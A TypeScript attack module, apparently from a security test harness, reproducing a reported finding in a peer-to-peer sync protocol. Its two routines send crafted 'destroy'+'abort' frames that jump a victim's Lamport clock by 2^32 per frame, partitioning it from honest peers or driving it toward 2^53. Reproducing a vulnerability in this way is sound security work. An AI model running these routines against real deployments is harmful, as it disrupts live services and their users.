/**
 * Clock attacks (issue 17, finding 2) by a peer that holds no capability: `destroy` frames of
 * its own (empty) node list carry any clock up to 2^32 above the victim's, and the victim
 * applies it before anything checks them.
 */
import { type AttackContext, count, pause } from "./context.js";
import { RawSession, sleep } from "./raw-session.js";

const JUMP = 2 ** 32;
const LIMIT = Number.MAX_SAFE_INTEGER;

/** One destroy at `clock`, aborted at once so nothing stays staged. */
function destroyAndAbort(session: RawSession, clock: number): number {
  const event = session.nextEvent();
  session.send({ type: "destroy", event, clock, nodes: [] });
  session.send({ type: "abort", event });
  return event;
}

/**
 * Two frames: a destroy at the victim's clock + 2^32, then another at that + 2^32 (both
 * aborted). The victim's clock ends 2^33 ahead of every honest peer's, which refuse it with
 * E_CLOCK_JUMP from then on. Then the attacker waits out the run.
 */
export async function clockPartition(ctx: AttackContext): Promise<void> {
  const session = await RawSession.open(ctx.endpoint);
  ctx.figures.before = session.clock;
  let clock = session.clock;
  for (let i = 0; i < 2; i++) {
    clock += JUMP;
    const event = destroyAndAbort(session, clock);
    const answer = await session.answerTo(event);
    ctx.figures[`answer${i + 1}`] = answer ? answer.type : (session.closeText ?? "none");
    if (answer && "lamport" in answer) clock = Math.max(clock, answer.lamport);
  }
  ctx.figures.victimClockSeen = clock;
  await ctx.stop;
  ctx.figures.closed = session.closeText;
  session.close();
}

/** At most this many destroy+abort pairs a second (the machine is shared). */
const PAIRS_PER_SECOND = 20_000;

/**
 * Destroy+abort pairs, each 2^32 above the last, as fast as the victim takes them (up to
 * PAIRS_PER_SECOND). Reports the clock reached, the rate, and when it would pass 2^53.
 */
export async function clockExhaust(ctx: AttackContext): Promise<void> {
  const session = await RawSession.open(ctx.endpoint);
  const started = performance.now();
  let clock = session.clock;
  let pairs = 0;
  while (!ctx.stopped() && !session.closed && clock + JUMP <= LIMIT) {
    const batchStart = performance.now();
    for (let i = 0; i < PAIRS_PER_SECOND / 100 && clock + JUMP <= LIMIT; i++) {
      clock += JUMP;
      destroyAndAbort(session, clock);
      pairs++;
    }
    await session.drain(256 * 1024);
    const spare = 10 - (performance.now() - batchStart);
    if (spare > 0) await pause(ctx, spare);
  }
  const seconds = (performance.now() - started) / 1000;
  // The victim's last proposal tells how far it got (frames still on their way count too).
  const last = destroyAndAbort(session, Math.min(LIMIT, clock));
  const answer = await Promise.race([session.answerTo(last), sleep(5_000).then(() => undefined)]);
  const reached = answer && "lamport" in answer ? answer.lamport : session.clock;
  count(ctx.figures, "pairs", pairs);
  ctx.figures.clockReached = reached;
  ctx.figures.fractionOf2e53 = Number((reached / LIMIT).toFixed(4));
  ctx.figures.exhausted = clock + JUMP > LIMIT;
  const perSecond = reached / seconds;
  ctx.figures.secondsTo2e53 = Math.round(LIMIT / perSecond);
  ctx.figures.closed = session.closeText;
  session.close();
}
